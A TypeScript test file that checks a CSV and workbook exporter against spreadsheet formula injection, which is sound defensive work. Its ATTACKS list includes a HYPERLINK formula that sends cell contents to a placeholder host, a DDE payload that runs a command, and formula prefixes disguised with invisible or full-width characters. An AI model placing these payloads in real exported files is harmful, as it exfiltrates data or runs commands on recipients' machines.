import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer, text } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openArchive } from './archive.ts'
import { csvText, writeWorkbook } from './index.ts'

let folder = ''
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'sightline-formulas-'))
})
afterAll(async () => {
  await rm(folder, { recursive: true })
})

const ATTACKS = [
  '=1+1',
  '+44 1632 960000',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\u200B@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=HYPERLINK("http://a.example/?"&A1,"more")',
  "=cmd|' /C calc'!A0",
]

test.each(ATTACKS)('a spreadsheet does not work out %j from a CSV', (attack) => {
  const [[cell = ''] = []] = parse(csvText([[attack]])) as string[][]
  expect(cell).toBe(`'${attack}`)
})

test('a number stays a number, also below 0, and a blank stays blank', () => {
  expect(csvText([[-3, 0.5, null, '']])).toBe('-3,0.5,,\r\n')
})

test('whatever stands in a text, no field of the CSV begins a formula, and no other field appears', () => {
  const piece = fc.constantFrom(...'=+-@;,"\t\r\n \'ax1＝', '\uFEFF', '\u200B')
  const cell = fc.array(piece, { maxLength: 8 }).map((all) => all.join(''))
  fc.assert(
    fc.property(fc.array(cell, { minLength: 2, maxLength: 5 }), (cells) => {
      const written = csvText([cells])
      const [read = []] = parse(written, { relax_quotes: false }) as string[][]
      expect(read).toHaveLength(cells.length)
      read.forEach((one, at) => {
        const was = cells[at] ?? ''
        expect([was, `'${was}`]).toContain(one)
        expect(one).not.toMatch(/^[\s\u200B\uFEFF]*[=+\-@＝]/)
        expect(one).not.toMatch(/^[\t\r\n]/)
      })
      // By a machine whose fields end at a semicolon or a tab, what is not quoted holds neither.
      expect(written.replaceAll(/"(?:[^"]|"")*"/g, '')).not.toMatch(/[;\t]/)
    }),
    { numRuns: 500 },
  )
})

test('a workbook holds such texts as texts, unchanged, and marked as no formula', async () => {
  const sheet = await sheetOf([['Words'], ...ATTACKS.map((one) => [one]), [-3]])
  expect(sheet).not.toContain('<f>')
  expect(sheet.match(/s="3" t="inlineStr"/g)).toHaveLength(ATTACKS.length)
  expect(sheet).toContain('<v>-3</v>')
})

test('a text that no cell can hold is cut, and the cell says so', async () => {
  const sheet = await sheetOf([['Words'], ['x'.repeat(40_000)]])
  const words = /preserve">(x+[^<]*)</.exec(sheet)?.[1] ?? ''
  expect(words).toHaveLength(32_767)
  expect(words).toContain('cut here')
})

async function sheetOf(rows: (string | number)[][]): Promise<string> {
  const path = join(folder, 'file.xlsx')
  await writeFile(path, await buffer(writeWorkbook([{ name: 'S', rows }])))
  const archive = await openArchive(path)
  try {
    return await text(await archive.read('xl/worksheets/sheet1.xml'))
  } finally {
    archive.close()
  }
}
